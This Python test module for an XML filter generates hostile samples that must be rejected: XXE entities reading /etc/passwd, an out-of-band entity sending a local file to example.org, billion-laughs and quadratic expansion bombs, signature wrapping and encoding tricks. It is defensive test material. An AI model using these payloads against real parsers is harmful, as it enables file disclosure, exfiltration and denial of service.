"""XML made to fetch, expand, hide or confuse: after the published work on attacks against parsers.

Entities and DTDs (XXE, expansion), inclusion, schemas of the sender's choice, instructions,
encodings, namespaces used against checks, signatures, depth and number, names and characters,
cut and trailing documents.
"""

from collections.abc import Iterator
from pathlib import Path

from tests.filters.hostile.cases import Case, Sound

PACKS = ("xml",)
_DTD = ("xml-doctype",)
_DOCTYPES = {
    "internal": '<!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>',
    "file": '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
    "http": '<!DOCTYPE a [<!ENTITY x SYSTEM "http://example.org/x">]><a>&x;</a>',
    "public": '<!DOCTYPE a PUBLIC "-//W3C//DTD XHTML 1.0//EN" "http://example.org/x.dtd"><a/>',
    "external": '<!DOCTYPE a SYSTEM "x.dtd"><a/>',
    "empty": "<!DOCTYPE a []><a/>",
    "bare": "<!DOCTYPE a><a/>",
    "parameter": '<!DOCTYPE a [<!ENTITY % p SYSTEM "http://example.org/p">%p;]><a/>',
    "parameter-out": '<!DOCTYPE a [<!ENTITY % f SYSTEM "file:///etc/hostname"><!ENTITY % o "<!'
    "ENTITY s SYSTEM 'http://example.org/?%f;'>\">%o;]><a>&s;</a>",
    "laughs": '<!DOCTYPE a [<!ENTITY l "ha">'
    + "".join(
        f'<!ENTITY l{n} "{"&l" + str(n - 1) * bool(n - 1) + ";"}{"&l;" * 9}">' for n in range(1, 9)
    )
    + "]><a>&l8;</a>",
    "quadratic": f'<!DOCTYPE a [<!ENTITY x "{"y" * 50_000}">]><a>{"&x;" * 5_000}</a>',
    "recursive": '<!DOCTYPE a [<!ENTITY x "&y;"><!ENTITY y "&x;">]><a>&x;</a>',
    "default-attribute": '<!DOCTYPE a [<!ATTLIST a b CDATA "c">]><a/>',
    "notation": '<!DOCTYPE a [<!NOTATION n SYSTEM "n.exe">]><a/>',
    "unparsed": '<!DOCTYPE a [<!ENTITY x SYSTEM "x.gif" NDATA gif>]><a/>',
    "lower-case": "<!doctype a><a/>",
    "netdoc": '<!DOCTYPE a [<!ENTITY x SYSTEM "jar:http://example.org!/x">]><a>&x;</a>',
    "php-filter": '<!DOCTYPE a [<!ENTITY x SYSTEM "php://filter/read=convert.base64-encode/x">]><a/>',
    "conditional": "<!DOCTYPE a [<![INCLUDE[<!ENTITY x 'y'>]]>]><a>&x;</a>",
    "element": "<!DOCTYPE a [<!ELEMENT a ANY>]><a/>",
}
_ENTITIES = {
    "undeclared": "<a>&x;</a>",
    "html": "<a>&nbsp;</a>",
    "in-attribute": '<a b="&x;"/>',
    "open": "<a>&amp</a>",
    "bare-ampersand": "<a>fish & chips</a>",
    "upper-hex-mark": "<a>&#X41;</a>",
    "empty-reference": "<a>&#;</a>",
    "long-reference": "<a>&#00000000065;</a>",
}
_REFERENCES = (
    "0",
    "8",
    "x1b",
    "xd800",
    "xdfff",
    "xfffe",
    "xffff",
    "x1ffff",
    "x10ffff",
    "x7f",
    "x85",
)
_CONTROLS = "\x00\x01\x08\x0b\x0c\x1b\x1f\x7f\x85\ufffe\uffff\ufdd0\U0001fffe"
_INCLUDE = "http://www.w3.org/2001/XInclude"
_INSTANCE = "http://www.w3.org/2001/XMLSchema-instance"
_SYNTAX = {
    "no-end": "<a><b></b>",
    "crossed": "<a><b></a></b>",
    "no-quotes": "<a b=c/>",
    "no-value": "<a b/>",
    "angle-in-attribute": '<a b="<"/>',
    "no-blank": '<a b="1"c="2"/>',
    "digit-name": "<1a/>",
    "empty": " ",
    "comment-dashes": "<a><!-- a -- b --></a>",
    "comment-open": "<a><!-- a</a>",
    "cdata-open": "<a><![CDATA[x</a>",
    "cdata-end": "<a>]]></a>",
    "cdata-outside": "<![CDATA[x]]><a/>",
    "end-with-attribute": '<a></a b="1">',
    "blank-in-tag": "< a/>",
    "version-1.1": '<?xml version="1.1"?><a/>',
    "version-2": '<?xml version="2.0"?><a/>',
    "standalone-maybe": '<?xml version="1.0" standalone="maybe"?><a/>',
    "two-colons": "<a:b:c xmlns:a='urn:x'/>",
    "prefix-alone": "<:a/>",
    "undeclared-prefix": "<a:b/>",
    "undeclared-attribute-prefix": "<a b:c='1'/>",
    "text-before": "x<a/>",
    "xml-declaration-again": "<a><?xml version='1.0'?></a>",
    "non-ascii-name": "<\u00e9/>",
    "null-name": "<a.\u200b/>",
}


def _namespaced(uri: str, name: str = "x", inner: str = "") -> str:
    return f'<a><p:{name} xmlns:p="{uri}">{inner}</p:{name}></a>'


def _cases() -> Iterator[tuple[str, str, tuple[str, ...]]]:
    for name, text in _DOCTYPES.items():
        yield f"doctype-{name}", text, ("xml-doctype", "syntax")
    for name, text in _ENTITIES.items():
        yield f"entity-{name}", text, ("xml-entity",)
    for code in _REFERENCES:
        yield f"reference-{code}", f"<a>&#{code};</a>", ("character-not-allowed",)
    for character in _CONTROLS:
        yield f"control-{ord(character):x}", f"<a>{character}</a>", ("character-not-allowed",)
    for name, text in _SYNTAX.items():
        reasons = ("syntax", "type-unknown", "type-not-allowed", "xml-namespace")
        yield f"syntax-{name}", text, (*reasons, "character-not-allowed")
    yield "include", _namespaced(_INCLUDE, "include"), ("xml-xinclude",)
    yield "include-default", f'<include xmlns="{_INCLUDE}" href="x"/>', ("xml-xinclude",)
    yield "include-rebound", f'<a xmlns:q="{_INCLUDE}"><q:include href="x"/></a>', ("xml-xinclude",)
    by_reference = _INCLUDE.replace("n", "&#110;")
    yield "include-by-reference", _namespaced(by_reference, "include"), ("xml-xinclude",)
    yield "include-2003", _namespaced(_INCLUDE.replace("1", "3"), "include"), ("xml-xinclude",)
    for name in ("base", "foo"):
        yield f"xml-{name}", f'<a xml:{name}="http://example.org/"/>', ("xml-namespace",)
    dsig, xenc = "http://www.w3.org/2000/09/xmldsig#", "http://www.w3.org/2001/04/xmlenc#"
    yield "signature", _namespaced(dsig, "Signature"), ("xml-signature",)
    yield "signature-root", f'<Signature xmlns="{dsig}"/>', ("xml-signature",)
    wrapped = f'<a><b id="1"/><S xmlns="{dsig}"><Object><b id="1"/></Object></S></a>'
    yield "signature-wrapping", wrapped, ("xml-signature",)
    yield "encrypted", _namespaced(xenc, "EncryptedData"), ("xml-encrypted",)
    yield "encrypted-root", f'<EncryptedData xmlns="{xenc}"/>', ("xml-encrypted",)
    warned = '<z xml:space="neither"/>'  # lxml warns, and forgets the error before
    forged = f'<r xmlns:x="{xenc}" x:k="1"><n1:EncryptedData>A</n1:EncryptedData>{warned}</r>'
    yield "encrypted-undeclared", forged, ("syntax",)
    yield "undeclared-attribute", f'<r xmlns:y="u:o" y:k="1" n1:k="2">{warned}</r>', ("syntax",)
    same = f'<r xmlns:x="u:q" xmlns:y="u:q" x:k="1" y:k="2">{warned}</r>'
    yield "same-attribute-two-prefixes", same, ("syntax",)
    typed = f'<a xmlns="u:t" xmlns:s="{_INSTANCE}" s:type="x{{}}"/>'
    yield "type-that-is-no-name", typed, ("xml-namespace",)
    many = "".join(f'<p:a xmlns:p="u:{n}"/>' for n in range(20_000))
    yield "namespaces-for-each-element", f"<r>{many}</r>", ("xml-namespace",)
    yield "same-attribute", '<a b="1" b="2"/>', ("xml-duplicate-attribute",)
    same = '<a xmlns:p="urn:x" xmlns:q="urn:x" p:b="1" q:b="2"/>'
    yield "same-attribute-by-namespace", same, ("syntax", "xml-duplicate-attribute")
    yield (
        "xsi-type-undeclared",
        f'<a xmlns:i="{_INSTANCE}" i:type="z:t"/>',
        ("xml-namespace",),
    )
    yield "namespace-rebound-xml", '<a xmlns:xml="urn:x"/>', ("syntax", "xml-namespace")
    yield "namespace-xmlns", '<a xmlns:xmlns="urn:x"/>', ("syntax", "xml-namespace")
    yield "namespace-empty", '<a xmlns:p=""><p:b/></a>', ("syntax", "xml-namespace")
    yield "namespace-long", f'<a xmlns="urn:{"x" * 600}"/>', ("xml-namespace",)
    yield "namespace-blank", '<a xmlns="urn:a b"/>', ("xml-namespace", "syntax")
    yield "namespace-brace", '<a xmlns="urn:a}b"/>', ("xml-namespace", "syntax")
    many = "".join(f' xmlns:p{n}="urn:{n}"' for n in range(100))
    used = "".join(f"<p{n}:b/>" for n in range(100))
    yield "namespaces-many", f"<a{many}>{used}</a>", ("xml-namespace",)
    yield "trailing-text", "<a/>x", ("trailing-data",)
    yield "trailing-element", "<a/><b/>", ("trailing-data",)
    yield "trailing-cdata", "<a/><![CDATA[x]]>", ("trailing-data", "syntax")
    yield "trailing-zip", "<a/>PK\x03\x04", ("trailing-data", "character-not-allowed")
    yield "trailing-html", "<a/><script>1</script>", ("trailing-data",)
    yield "deep", "<a>" * 100 + "</a>" * 100, ("too-deep",)
    yield "very-deep", "<a>" * 200_000, ("too-deep",)
    yield "many-elements", "<a>" + "<b/>" * 60_000 + "</a>", ("too-many-elements",)
    yield (
        "many-attributes",
        "<a" + "".join(f" b{n}='1'" for n in range(200)) + "/>",
        ("too-many-attributes",),
    )
    yield "long-text", f"<a>{'x' * 300_000}</a>", ("text-too-long",)
    yield "long-text-in-parts", f"<a>{'<![CDATA[xxxxxxxxx]]>' * 30_000}</a>", ("text-too-long",)
    yield "long-attribute", f"<a b='{'x' * 300_000}'/>", ("text-too-long",)
    yield "long-name", f"<{'a' * 300}/>", ("name-too-long",)
    yield "large", f"<a>{'<b>text</b>' * 120_000}</a>", ("size-out-of-bounds",)
    yield "html", "<html><body onload='x()'/></html>", ("type-not-allowed",)
    yield "svg", "<svg xmlns='http://www.w3.org/2000/svg'/>", ("type-not-allowed",)
    yield "plain", "just words", ("type-unknown",)
    yield "json", '{"a": 1}', ("type-not-allowed",)


def hostile() -> Iterator[Case]:
    """Every sample that must not pass."""
    for name, text, reasons in _cases():
        yield Case(name, text.encode(), reasons)
    for name in ("utf-16", "utf-16-le", "utf-16-be", "utf-32", "latin-1", "utf-7", "cp500"):
        text = f'<?xml version="1.0" encoding="{name}"?><a>\u00e9</a>'
        reasons = ("encoding-not-utf8", "type-unknown", "character-not-allowed")
        yield Case(f"encoding-{name}", text.encode(name), reasons)
    yield Case("encoding-declared-other", b'<?xml version="1.0" encoding="utf-16"?><a/>',
               ("encoding-not-utf8",))  # fmt: skip
    yield Case("overlong", b"<a>\xc0\xbcscript\xc0\xbe</a>", ("encoding-not-utf8",))
    yield Case("surrogate", b"<a>\xed\xa0\x80</a>", ("encoding-not-utf8",))
    yield Case("declared-json", b"<a/>", ("type-not-allowed",), type="application/json")
    yield Case("label", b"<a/>", ("label-no-mapping",), label="SECRET")


def sound() -> Iterator[Sound]:
    """Ordinary documents, and what of them must not come out."""
    yield Sound("least", b"<a/>")
    yield Sound(
        "mark-of-order", b"\xef\xbb\xbf<?xml version='1.0'?>\r\n<a/>", gone=(b"\xef\xbb\xbf",)
    )
    yield Sound("comments", b"<!-- uno --><a><!-- two -->x<!-- three --></a><!-- four -->",
                gone=(b"uno", b"two", b"three", b"four"))  # fmt: skip
    yield Sound("instructions", b"<?xml version='1.0'?><?pi uno?><a>x<?php two ?></a><?end three?>",
                gone=(b"uno", b"two", b"three", b"php"))  # fmt: skip
    yield Sound("cdata", b"<a><![CDATA[x < y]]> and <![CDATA[more]]></a>", gone=(b"CDATA",))
    yield Sound("blanks", b"<a>\n  <b/>\n  <c>t</c>\n</a>", gone=(b"\n  ",))
    yield Sound("blanks-kept", b"<a xml:space='preserve'>\n  <b/>\n</a>")
    yield Sound("mixed", b"<a>one <b>two</b> three <c/> four</a>")
    yield Sound(
        "references", b"<a b='&#9;&#10;&#13;&lt;&quot;'>&#13;&#x41;&gt;&apos;</a>", gone=(b"x41",)
    )
    yield Sound("default-namespace", b"<a xmlns='urn:x'><b/></a>")
    yield Sound("prefixes", b"<weird:a xmlns:weird='urn:x' weird:b='1'/>", gone=(b"weird",))
    yield Sound("unused", b"<a xmlns:hidden='urn:hidden'/>", gone=(b"hidden",))
    yield Sound("redeclared", b"<p:a xmlns:p='urn:x'><p:b xmlns:p='urn:y'/></p:a>")
    yield Sound("undeclared-default", b"<a xmlns='urn:x'><b xmlns=''/></a>")
    xsi = b"http://www.w3.org/2001/XMLSchema-instance"
    yield Sound("schema-location", b"<a xmlns:s='" + xsi + b"' s:schemaLocation='urn:x evil.xsd'/>",
                gone=(b"evil", b"schemaLocation"))  # fmt: skip
    yield Sound("no-namespace-location",
                b"<a xmlns:s='" + xsi + b"' s:noNamespaceSchemaLocation='evil.xsd'/>",
                gone=(b"evil",))  # fmt: skip
    yield Sound(
        "xsi-type", b"<a xmlns:s='" + xsi + b"' xmlns:t='urn:t' s:type='t:x' s:nil='true'/>"
    )
    yield Sound("xsi-type-default", b"<a xmlns='urn:t' xmlns:s='" + xsi + b"' s:type='x'/>")
    yield Sound("language", b"<a xml:lang='en' xml:id='i1'/>")
    yield Sound("quotes", b"<a b='\"' c=\"'\"/>")
    yield Sound("unicode", "<a b='é'>日本語 עברית 👩‍🔬</a>".encode())
    yield Sound("depth", b"<a>" * 60 + b"</a>" * 60)
    yield Sound("line-ends", b"<a>\r\nx\ry\n</a>", gone=(b"\r",))


def real(shared: Path) -> Iterator[Path]:
    """The XML among the real files."""
    suffixes = (".xml", ".xsd", ".ccda", ".cot", ".xsl", ".sch", ".rdf")
    yield from (p for p in shared.rglob("*") if p.suffix in suffixes and p.is_file())
